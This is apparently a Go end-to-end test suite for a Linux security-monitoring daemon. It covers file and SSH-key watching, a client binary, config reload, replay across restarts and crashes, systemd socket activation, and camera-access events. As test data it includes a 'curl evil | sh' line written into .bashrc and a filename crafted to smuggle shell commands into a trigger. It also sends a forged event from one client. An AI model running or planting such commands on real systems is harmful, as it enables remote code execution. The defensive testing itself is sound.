package e2e_test

import (
	"bufio"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/pantheros/secmon/dbus/testutil"
	"github.com/pantheros/secmon/service/internal/event"
)

// Files made in a nested tree created after start-up reach a socket client:
// every directory and file, each once.
func TestNestedTreeCreatedAfterStartReachesClient(t *testing.T) {
	e := newEnv(t)
	e.writeConfig(t, "")
	startDaemon(t, []string{e.config})
	s := connect(t, e.socket)
	s.send(`{"replay_after":0}`) // everything since start: no race with subscribing

	deep := filepath.Join(e.tree, "a", "b", "c", "d")
	if err := os.MkdirAll(deep, 0o755); err != nil {
		t.Fatal(err)
	}
	var want []string
	for _, dir := range []string{"a", "a/b", "a/b/c", "a/b/c/d"} {
		want = append(want, filepath.Join(e.tree, dir))
		f := filepath.Join(e.tree, dir, "file")
		if err := os.WriteFile(f, []byte("x"), 0o644); err != nil {
			t.Fatal(err)
		}
		want = append(want, f)
	}
	sentinel := filepath.Join(e.tree, "sentinel")
	os.WriteFile(sentinel, nil, 0o644)

	seen := map[string]int{}
	for _, ev := range s.until(pathIs(sentinel)) {
		if ev.Type == event.FileCreate {
			seen[ev.Path]++
		}
		if ev.Seq == 0 {
			t.Errorf("event without seq: %+v", ev)
		}
	}
	for _, p := range want {
		if seen[p] != 1 {
			t.Errorf("%s: FileCreate seen %d times, want 1", p, seen[p])
		}
	}
}

func TestClientBinaryFiltersAndCounts(t *testing.T) {
	e := newEnv(t)
	e.writeConfig(t, "")
	d := startDaemon(t, []string{"--config", e.config})
	_ = d
	os.WriteFile(filepath.Join(e.tree, "low"), nil, 0o644)
	os.Mkdir(filepath.Join(e.tree, ".ssh"), 0o700)
	os.WriteFile(filepath.Join(e.tree, ".ssh", "authorized_keys"), []byte("ssh-ed25519 AAAA"), 0o600)

	out, err := exec.Command(filepath.Join(bin, "secmon-client"), "--socket", e.socket,
		"--replay-after", "0", "--min-severity", "Critical", "--count", "1").Output()
	if err != nil {
		t.Fatalf("secmon-client: %v", err)
	}
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	if len(lines) != 1 {
		t.Fatalf("got %d lines, want 1:\n%s", len(lines), out)
	}
	var ev event.Event
	if err := ev.UnmarshalJSON([]byte(lines[0])); err != nil {
		t.Fatal(err)
	}
	if ev.Type != event.SshAccess || ev.Severity != event.Critical || !strings.HasSuffix(ev.Path, "authorized_keys") {
		t.Fatalf("got %+v, want the Critical SshAccess for authorized_keys", ev)
	}
	if !strings.Contains(lines[0], `"event_type":{"type":"SshAccess"}`) {
		t.Fatalf("line does not keep the seed's shape: %s", lines[0])
	}
}

func TestClientWithoutDaemonSaysSo(t *testing.T) {
	dir := shortTempDir(t)
	cmd := exec.Command(filepath.Join(bin, "secmon-client"), "--socket", filepath.Join(dir, "none.sock"))
	out, err := cmd.CombinedOutput()
	var ee *exec.ExitError
	if !errorsAs(err, &ee) || ee.ExitCode() != 1 {
		t.Fatalf("exit = %v, want status 1; output %s", err, out)
	}
	if !strings.Contains(string(out), "is it running?") || !strings.Contains(string(out), "none.sock") {
		t.Fatalf("message %q does not say the daemon is not running and where it looked", out)
	}
}

func TestBadConfigIsRejectedWithItsLine(t *testing.T) {
	e := newEnv(t)
	e.writeConfig(t, "\n[[watches]]\npath = \"/tmp\"\nrecursiv = true\n")
	d := launch(t, exec.Command(filepath.Join(bin, "secmon-daemon"), e.config))
	err := d.wait()
	var ee *exec.ExitError
	if !errorsAs(err, &ee) || ee.ExitCode() == 0 {
		t.Fatalf("daemon exit = %v, want non-zero", err)
	}
	// The base config is 20 lines, then a blank line: the typo is on line 24.
	want := e.config + ":24:1: key watches.recursiv: unknown key"
	if !strings.Contains(d.stderr.String(), want) {
		t.Fatalf("stderr %q does not contain %q", d.stderr.String(), want)
	}
}

// A line written by one client is never seen by another.
func TestForgedLineDoesNotReachOtherClients(t *testing.T) {
	e := newEnv(t)
	e.writeConfig(t, "")
	startDaemon(t, []string{e.config})
	reader := connect(t, e.socket)
	reader.send(`{"replay_after":0}`)
	forger := connect(t, e.socket)
	forger.send(`{"timestamp":"2025-01-01T00:00:00.000Z","event_type":{"type":"SshAccess"},"path":"/forged","details":{"severity":"Critical","description":"forged","metadata":{}}}`)
	real := filepath.Join(e.tree, "real")
	os.WriteFile(real, nil, 0o644)
	for _, ev := range reader.until(pathIs(real)) {
		if ev.Path == "/forged" {
			t.Fatalf("forged event reached another client: %+v", ev)
		}
	}
}

// A client that never reads does not delay another.
func TestStuckClientDoesNotDelayAnother(t *testing.T) {
	e := newEnv(t)
	e.writeConfig(t, "", "client_queue = 64\n")
	startDaemon(t, []string{e.config})
	stuck := connect(t, e.socket)
	_ = stuck
	live := connect(t, e.socket)
	live.send(`{"replay_after":0,"types":["FileCreate"]}`)
	const n = 2000
	for i := range n {
		if err := os.WriteFile(filepath.Join(e.tree, fmt.Sprintf("f%04d", i)), nil, 0o644); err != nil {
			t.Fatal(err)
		}
		// Pace the writer by the live client so its own queue never fills.
		if i%32 == 31 {
			live.until(pathIs(filepath.Join(e.tree, fmt.Sprintf("f%04d", i))))
		}
	}
	last := filepath.Join(e.tree, fmt.Sprintf("f%04d", n-1))
	live.until(pathIs(last))
}

// systemd-socket-activate hands over the socket; the daemon starts on the
// first connection and serves it.
func TestSocketActivation(t *testing.T) {
	if _, err := exec.LookPath("systemd-socket-activate"); err != nil {
		t.Skip("systemd-socket-activate is not installed (Debian package systemd)")
	}
	e := newEnv(t)
	e.writeConfig(t, "")
	cmd := exec.Command("systemd-socket-activate", "-l", e.socket, "--fdname=secmon",
		"-E", "NOTIFY_SOCKET", "-E", "WATCHDOG_USEC=400000",
		filepath.Join(bin, "secmon-daemon"), e.config)
	d := launch(t, cmd)
	s := connectRetry(t, e.socket, d) // the first connection starts the daemon
	d.notify.waitFor("READY=1")
	s.send(`{"replay_after":0}`)
	f := filepath.Join(e.tree, "activated")
	os.WriteFile(f, nil, 0o644)
	s.until(pathIs(f))
	d.notify.waitFor("WATCHDOG=1")
	if !testutil.Until(15*time.Second, func() bool { return strings.Contains(d.stderr.String(), "socket_activated=true") }) {
		t.Fatalf("daemon did not report using the inherited socket:\n%s", d.stderr.String())
	}
}

// sd_notify: READY=1 with a STATUS, WATCHDOG=1 at the asked interval,
// STOPPING=1 on SIGTERM, and exit 0.
func TestSdNotify(t *testing.T) {
	e := newEnv(t)
	e.writeConfig(t, "")
	d := launch(t, exec.Command(filepath.Join(bin, "secmon-daemon"), e.config), "WATCHDOG_USEC=200000")
	d.notify.waitFor("READY=1")
	os.WriteFile(filepath.Join(e.tree, "x"), nil, 0o644)
	st := d.notify.waitFor("STATUS=")
	if !strings.Contains(st, "events") || !strings.Contains(st, "dropped") || !strings.Contains(st, "clients") {
		t.Fatalf("STATUS line %q lacks counts", st)
	}
	d.notify.waitFor("WATCHDOG=1")
	d.cmd.Process.Signal(syscall.SIGTERM)
	d.notify.waitFor("STOPPING=1")
	if err := d.wait(); err != nil {
		t.Fatalf("exit after SIGTERM: %v", err)
	}
}

// SIGHUP reloads: a bad config is refused and the old one keeps working; a
// good one takes effect.
func TestReloadOnSighup(t *testing.T) {
	e := newEnv(t)
	e.writeConfig(t, "")
	d := startDaemon(t, []string{e.config})
	s := connect(t, e.socket)
	s.send(`{"replay_after":0}`)

	os.WriteFile(e.config, []byte("socket_path = 42\n"), 0o644)
	d.cmd.Process.Signal(syscall.SIGHUP)
	refusal := s.until(func(ev event.Event) bool {
		return ev.Type == event.MonitorStatus && ev.Metadata["state"] == "reload-failed"
	})
	if r := refusal[len(refusal)-1]; !strings.Contains(r.Description, e.config+":1:15") {
		t.Fatalf("reload refusal %q does not name file and line", r.Description)
	}
	d.notify.waitFor("READY=1") // a refused reload ends with READY=1 too
	still := filepath.Join(e.tree, "still-watched")
	os.WriteFile(still, nil, 0o644)
	s.until(pathIs(still))

	other := filepath.Join(e.dir, "other")
	os.Mkdir(other, 0o755)
	e.writeConfig(t, fmt.Sprintf("\n[[watches]]\npath = %q\n", other))
	d.cmd.Process.Signal(syscall.SIGHUP)
	d.notify.waitFor("READY=1")
	added := filepath.Join(other, "new-watch")
	os.WriteFile(added, nil, 0o644)
	s.until(pathIs(added))
}

// Sequence numbers resume above the last one after a restart, and the
// events kept for replay survive a clean restart: a client that saw seq N
// and reconnects with replay_after N gets what it missed, then new events.
func TestSeqResumesAndReplaySurvivesRestart(t *testing.T) {
	e := newEnv(t)
	e.writeConfig(t, "")
	d := startDaemon(t, []string{e.config})
	s := connect(t, e.socket)
	s.send(`{"replay_after":0}`)
	seen := filepath.Join(e.tree, "seen")
	os.WriteFile(seen, nil, 0o644)
	got := s.until(pathIs(seen))
	n := got[len(got)-1].Seq
	s.conn.Close()
	// Changes the client never read, then a restart.
	missed := filepath.Join(e.tree, "missed")
	os.WriteFile(missed, nil, 0o644)
	probe := connect(t, e.socket)
	probe.send(`{"replay_after":0}`)
	probe.until(pathIs(missed))
	d.stop()

	startDaemon(t, []string{e.config})
	s = connect(t, e.socket)
	s.send(fmt.Sprintf(`{"replay_after":%d}`, n))
	// The replay comes first: what the client missed, from the old run.
	got = s.until(pathIs(missed))
	after := filepath.Join(e.tree, "after")
	os.WriteFile(after, nil, 0o644)
	got = append(got, s.until(pathIs(after))...)
	last := n
	for _, ev := range got {
		if ev.Type == event.EventsDropped {
			t.Fatalf("replay across the restart reported a loss: %+v", ev)
		}
		if ev.Seq <= last {
			t.Fatalf("seq %d after %d: not increasing (%v)", ev.Seq, last, got)
		}
		last = ev.Seq
	}
}

// User mode: no config, an ordinary user's layout, SSH keys watched.
func TestUserModeWatchesHome(t *testing.T) {
	dir := shortTempDir(t)
	home := filepath.Join(dir, "home")
	runtime := filepath.Join(dir, "rt")
	os.MkdirAll(filepath.Join(home, ".ssh"), 0o700)
	os.Mkdir(runtime, 0o700)
	// No session bus: secmon must not autolaunch one (dbus-launch would
	// leave a private dbus-daemon behind and write ~/.dbus).
	d := startDaemon(t, []string{"--user", "--print"}, "HOME="+home, "XDG_RUNTIME_DIR="+runtime, "XDG_STATE_HOME="+filepath.Join(dir, "state"), "DBUS_SESSION_BUS_ADDRESS=")
	if _, err := os.Stat(filepath.Join(home, ".dbus")); err == nil || !testutil.Until(15*time.Second, func() bool { return strings.Contains(d.stderr.String(), "D-Bus off") }) {
		t.Errorf("without a session bus, D-Bus must be off and nothing autolaunched (~/.dbus: %v); stderr:\n%s", err, d.stderr.String())
	}
	// Said once, in words: what user mode sees and what needs the system
	// service; and no expected state is logged as a warning.
	if !testutil.Until(15*time.Second, func() bool { return strings.Contains(d.stderr.String(), "user mode: watching") }) ||
		!strings.Contains(d.stderr.String(), "need the system service") || strings.Contains(d.stderr.String(), "level=WARN") {
		t.Errorf("user mode's start: want one summary line and no warning; stderr:\n%s", d.stderr.String())
	}
	socket := filepath.Join(runtime, "secmon", "secmon.sock")
	s := connect(t, socket)
	s.send(`{"replay_after":0}`)
	keys := filepath.Join(home, ".ssh", "authorized_keys")
	os.WriteFile(keys, []byte("ssh-ed25519 AAAA"), 0o600)
	got := s.until(pathIs(keys))
	if ev := got[len(got)-1]; ev.Type != event.SshAccess || ev.Severity != event.Critical {
		t.Fatalf("got %+v, want a Critical SshAccess", ev)
	}
	bashrc := filepath.Join(home, ".bashrc")
	os.WriteFile(bashrc, []byte("curl evil | sh\n"), 0o644)
	if got := s.until(pathIs(bashrc)); got[len(got)-1].Severity != event.Medium {
		t.Fatalf("~/.bashrc change has severity %v, want Medium", got[len(got)-1].Severity)
	}
	if !testutil.Until(10*time.Second, func() bool { return strings.Contains(d.stdout.String(), "authorized_keys") }) {
		t.Fatalf("--print did not show the event on stdout:\n%s", d.stdout.String())
	}
	fi, err := os.Stat(socket)
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("user-mode socket mode = %v, %v; want 0600", fi.Mode().Perm(), err)
	}
}

func TestTriggerRunsWithoutShell(t *testing.T) {
	e := newEnv(t)
	out := filepath.Join(e.dir, "out")
	os.Mkdir(out, 0o755)
	e.writeConfig(t, fmt.Sprintf(`
[[triggers]]
name = "copy"
event_types = ["FileCreate"]
command = "/bin/cp"
args = ["{path}", %q]
`, out+"/"))
	startDaemon(t, []string{e.config})
	hostile := filepath.Join(e.tree, "a b;touch PWNED;$(id)")
	os.WriteFile(hostile, []byte("copied"), 0o644)
	copied := filepath.Join(out, filepath.Base(hostile))
	testutil.WaitFor(t, 15*time.Second, fmt.Sprintf("the trigger copying %q", hostile), func() bool {
		b, err := os.ReadFile(copied)
		return err == nil && string(b) == "copied"
	})
	if _, err := os.Stat(filepath.Join(e.tree, "PWNED")); err == nil {
		t.Fatal("event text reached a shell")
	}
}

// connectRetry connects once systemd-socket-activate listens: the path
// exists from bind(), connections succeed from listen().
func connectRetry(t *testing.T, p string, d *daemonProc) *stream {
	t.Helper()
	var c net.Conn
	var err error
	if !testutil.Until(10*time.Second, func() bool { c, err = net.Dial("unix", p); return err == nil }) {
		t.Fatalf("cannot connect to %s: %v; stderr:\n%s", p, err, d.stderr.String())
	}
	t.Cleanup(func() { c.Close() })
	return &stream{t: t, conn: c, r: bufio.NewReaderSize(c, 1<<20)}
}

func errorsAs(err error, target any) bool { return err != nil && errors.As(err, target) }

// A program opening a (stand-in) camera is named in CameraAccess, and
// CameraReleased follows when it exits.
func TestCameraAccessNamesTheProgram(t *testing.T) {
	e := newEnv(t)
	node := filepath.Join(e.dir, "video0")
	os.WriteFile(node, nil, 0o644)
	e.camera = filepath.Join(e.dir, "video*")
	e.writeConfig(t, "")
	startDaemon(t, []string{e.config})
	s := connect(t, e.socket)
	s.send(`{"replay_after":0,"types":["CameraAccess","CameraReleased"]}`)

	pid, release := holdNode(t, e, node)
	ev := s.next()
	if ev.Type != event.CameraAccess || ev.Path != node || ev.Process == nil || ev.Process.Comm != "cam-opener" || ev.Process.PID != pid || ev.Severity != event.High {
		t.Fatalf("got %+v (process %+v), want a High CameraAccess by cam-opener pid %d", ev, ev.Process, pid)
	}
	release()
	if ev := s.next(); ev.Type != event.CameraReleased || ev.Path != node {
		t.Fatalf("got %+v, want CameraReleased", ev)
	}
}

// Under socket activation the listening socket outlives the daemon (systemd
// holds it; here the test does): a client that connects while the daemon
// restarts waits in the backlog, and once the new daemon runs, its
// replay_after request gets what happened before the restart.
func TestRestartUnderSocketActivationKeepsClients(t *testing.T) {
	e := newEnv(t)
	e.writeConfig(t, "")
	os.MkdirAll(filepath.Dir(e.socket), 0o755)
	l, err := net.Listen("unix", e.socket)
	if err != nil {
		t.Fatal(err)
	}
	l.(*net.UnixListener).SetUnlinkOnClose(false)
	lf, _ := l.(*net.UnixListener).File()
	t.Cleanup(func() { l.Close(); lf.Close() })
	start := func() *daemonProc {
		cmd := exec.Command("sh", "-c", `LISTEN_PID=$$ LISTEN_FDS=1 LISTEN_FDNAMES=secmon exec "$0" "$@"`,
			filepath.Join(bin, "secmon-daemon"), e.config)
		cmd.ExtraFiles = []*os.File{lf}
		d := launch(t, cmd)
		d.notify.waitFor("READY=1")
		return d
	}
	d := start()
	s := connect(t, e.socket)
	s.send(`{"replay_after":0}`)
	before := filepath.Join(e.tree, "before")
	os.WriteFile(before, nil, 0o644)
	got := s.until(pathIs(before))
	seq := got[len(got)-1].Seq
	d.stop()
	s.conn.SetReadDeadline(time.Now().Add(10 * time.Second))
	for { // what was still buffered, then the end of the connection
		if _, err := s.r.ReadBytes('\n'); err != nil {
			if errors.Is(err, os.ErrDeadlineExceeded) {
				t.Fatal("the old daemon's connection is still open after it stopped")
			}
			break
		}
	}

	// Connect while no daemon runs: the kernel queues the connection.
	late := connect(t, e.socket)
	late.send(`{"replay_after":0}`)
	start()
	got = late.until(pathIs(before))
	if ev := got[len(got)-1]; ev.Seq != seq {
		t.Fatalf("replayed %+v, want seq %d from before the restart", ev, seq)
	}
	after := filepath.Join(e.tree, "after")
	os.WriteFile(after, nil, 0o644)
	if ev := late.until(pathIs(after)); ev[len(ev)-1].Seq <= seq {
		t.Fatalf("new event seq %d not above %d", ev[len(ev)-1].Seq, seq)
	}
}

// A crash (kill -9, as the watchdog does) keeps the replay: what the
// killed run had written to its log is replayed, and the numbers it had
// reserved but not kept are named in an EventsDropped notice, so no seq
// is skipped without a word.
func TestReplaySurvivesACrash(t *testing.T) {
	e := newEnv(t)
	e.writeConfig(t, "")
	d := startDaemon(t, []string{e.config})
	missed := filepath.Join(e.tree, "missed")
	os.WriteFile(missed, nil, 0o644)
	testutil.WaitFor(t, 15*time.Second, "the change in the replay log", func() bool {
		b, _ := os.ReadFile(filepath.Join(e.state, "replay.jsonl"))
		return strings.Contains(string(b), missed)
	})
	syscall.Kill(d.cmd.Process.Pid, syscall.SIGKILL)
	d.wait()

	startDaemon(t, []string{e.config})
	s := connect(t, e.socket)
	s.send(`{"replay_after":0}`)
	got := s.until(pathIs(missed))
	after := filepath.Join(e.tree, "after")
	os.WriteFile(after, nil, 0o644)
	got = append(got, s.until(pathIs(after))...)
	var last uint64
	notices := 0
	for _, ev := range got {
		if ev.Type == event.EventsDropped {
			first, _ := strconv.ParseUint(ev.Metadata["first_seq"], 10, 64)
			end, _ := strconv.ParseUint(ev.Metadata["last_seq"], 10, 64)
			if first != last+1 || end < first {
				t.Fatalf("notice %d..%d after seq %d: it must start right after the last event kept", first, end, last)
			}
			last, notices = end, notices+1
			continue
		}
		if ev.Seq != last+1 {
			t.Fatalf("seq %d after %d with no notice for the numbers between (%v)", ev.Seq, last, got)
		}
		last = ev.Seq
	}
	if notices != 1 {
		t.Fatalf("%d notices, want one naming what the killed run did not keep", notices)
	}
}

// A camera in use across a daemon restart: its release gives the time
// since it was opened, which the last run saw, not since the restart.
func TestCameraReleaseAfterRestartGivesTheTrueDuration(t *testing.T) {
	e := newEnv(t)
	node := filepath.Join(e.dir, "video0")
	os.WriteFile(node, nil, 0o644)
	e.camera = filepath.Join(e.dir, "video*")
	e.writeConfig(t, "")
	d := startDaemon(t, []string{e.config})
	s := connect(t, e.socket)
	s.send(`{"replay_after":0,"types":["CameraAccess","CameraReleased"]}`)

	_, release := holdNode(t, e, node)
	opened := s.next()
	if opened.Type != event.CameraAccess {
		t.Fatalf("got %+v, want CameraAccess", opened)
	}
	// Let the use last a while before the restart, so that a duration
	// counted from the restart is visibly short.
	testutil.Until(5*time.Second, func() bool { return time.Since(opened.Time) > 1500*time.Millisecond })
	d.stop()
	startDaemon(t, []string{e.config})
	s = connect(t, e.socket)
	s.send(fmt.Sprintf(`{"replay_after":%d,"types":["CameraReleased"]}`, opened.Seq))
	release()
	rel := s.next()
	ms, _ := strconv.ParseInt(rel.Metadata["duration_ms"], 10, 64)
	if rel.Type != event.CameraReleased || time.Duration(ms)*time.Millisecond < 1500*time.Millisecond {
		t.Fatalf("release %+v: duration %d ms, want at least the 1,500 ms before the restart", rel.Metadata, ms)
	}
}

// An ordinary user's first run (README command 1) says nothing alarming:
// what user mode cannot do (fanotify, eBPF, the system journal) is
// expected there, said as running or unavailable, never degraded, never a
// warning.
func TestUserModeAsAnOrdinaryUserRaisesNoAlarm(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("running the daemon as another user needs root (CI runs as root)")
	}
	if _, err := exec.LookPath("setpriv"); err != nil {
		t.Skip("setpriv (util-linux) is not installed")
	}
	dir := shortTempDir(t)
	home, runtime := filepath.Join(dir, "home"), filepath.Join(dir, "rt")
	os.Mkdir(home, 0o755)
	os.Mkdir(runtime, 0o700)
	os.Chown(home, 65534, 65534)
	os.Chown(runtime, 65534, 65534)
	cmd := exec.Command("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--",
		filepath.Join(bin, "secmon-daemon"), "--print")
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + home, "XDG_RUNTIME_DIR=" + runtime, "DBUS_SESSION_BUS_ADDRESS="}
	out := &testutil.LockedBuffer{}
	cmd.Stdout, cmd.Stderr = out, out
	cmd.Dir = "/"
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true, Pdeathsig: syscall.SIGKILL}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL); cmd.Wait() })
	if !testutil.Until(15*time.Second, func() bool { return strings.Contains(out.String(), "user mode: watching") }) {
		t.Fatalf("no start-up summary within 15 s:\n%s", out.String())
	}
	for _, bad := range []string{"degraded", "level=WARN", "level=ERROR", "HIGH", "CRITICAL"} {
		if strings.Contains(out.String(), bad) {
			t.Errorf("an ordinary user's first run says %q:\n%s", bad, out.String())
		}
	}
}

// holdNode opens node from a copy of the test binary named cam-opener and
// holds it until release is called; it returns the opener's pid once the
// node is open.
func holdNode(t *testing.T, e *env, node string) (pid int, release func()) {
	t.Helper()
	self, _ := os.Executable()
	opener := filepath.Join(e.dir, "cam-opener")
	if _, err := os.Stat(opener); err != nil {
		b, _ := os.ReadFile(self)
		os.WriteFile(opener, b, 0o755)
	}
	cmd := exec.Command(opener)
	cmd.Env = append(os.Environ(), openerEnv+"="+node)
	stdin, _ := cmd.StdinPipe()
	out, _ := cmd.StdoutPipe()
	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	if l, _ := bufio.NewReader(out).ReadString('\n'); l != "open\n" {
		t.Fatalf("opener said %q", l)
	}
	return cmd.Process.Pid, func() { stdin.Close(); cmd.Wait() }
}
